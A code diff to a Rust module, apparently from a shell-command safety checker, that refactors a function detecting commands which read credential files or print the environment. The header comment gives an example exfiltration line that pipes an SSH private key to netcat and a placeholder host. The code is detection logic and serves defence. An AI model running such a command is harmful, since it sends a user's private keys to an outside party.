@@ -1,13 +1,20 @@
 //! Secrets that are read and sent by one text: `cat ~/.ssh/id_ed25519 | nc HOST 1`.
 
-use super::writes::is_credential;
+use super::writes::{Files, is_credential};
 use crate::program::table::ProgramTable;
 use crate::program::table::call::Call;
 use crate::program::table::row::Prints;
+use crate::shell::place::Place;
 use crate::shell::word::{UNKNOWN, Word};
 
 /// Whether a command reads a file that holds secrets, or prints the environment.
-pub(crate) fn reads_secrets(table: &ProgramTable, program: &str, args: &[Word]) -> bool {
+pub(crate) fn reads_secrets(
+    table: &ProgramTable,
+    place: &Place,
+    program: &str,
+    args: &[Word],
+) -> bool {
+    let files = Files::new(table.files(), place);
     if program == "printenv"
         || (program == "history" && args.is_empty())
         || (program == "env" && args.is_empty())
@@ -15,10 +22,7 @@ pub(crate) fn reads_secrets(table: &ProgramTable, program: &str, args: &[Word]) 
         return true;
     }
     let reads = table.row(program).is_some_and(|row| row.reads_files);
-    reads
-        && args
-            .iter()
-            .any(|word| is_credential(table.files(), &word.text))
+    reads && args.iter().any(|word| is_credential(files, &word.text))
 }
 
 /// Whether a program prints what a database holds.
